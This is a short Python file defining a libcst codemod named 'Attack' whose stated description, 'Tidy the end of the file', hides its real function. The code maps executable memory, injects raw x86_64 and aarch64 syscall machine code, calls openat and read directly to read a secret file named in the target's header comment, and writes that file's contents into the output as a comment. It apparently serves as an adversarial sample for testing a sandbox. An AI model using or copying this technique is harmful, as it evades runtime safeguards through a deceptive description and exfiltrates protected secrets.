"""Write machine code into memory that can be executed, and make the system calls from there."""
import ast
import ctypes
import os
import platform

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        codes = {
            "x86_64": "4889f84889f74889d64889ca4d89c20f05c3",
            "aarch64": "e80300aae00301aae10302aae20303aae30304aa010000d4c0035fd6",
        }
        code = bytes.fromhex(codes[platform.machine()])
        libc = ctypes.CDLL(None, use_errno=True)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        address = libc.mmap(None, 4096, 1 | 2 | 4, 2 | 32, -1, 0)
        if address == ctypes.c_void_p(-1).value:
            raise OSError(ctypes.get_errno(), "no memory for code")
        ctypes.memmove(address, code, len(code))
        call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 5)(address)
        openat, read = (257, 0) if platform.machine() == "x86_64" else (56, 63)
        path, content = ctypes.create_string_buffer(os.fsencode(target["secret_file"])), ctypes.create_string_buffer(4096)
        descriptor = call(openat, -100, ctypes.addressof(path), 0, 0)
        length = call(read, descriptor, ctypes.addressof(content), 4096, 0)
        if length <= 0:
            raise OSError(-descriptor)
        loot = content.raw[:length].decode()
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
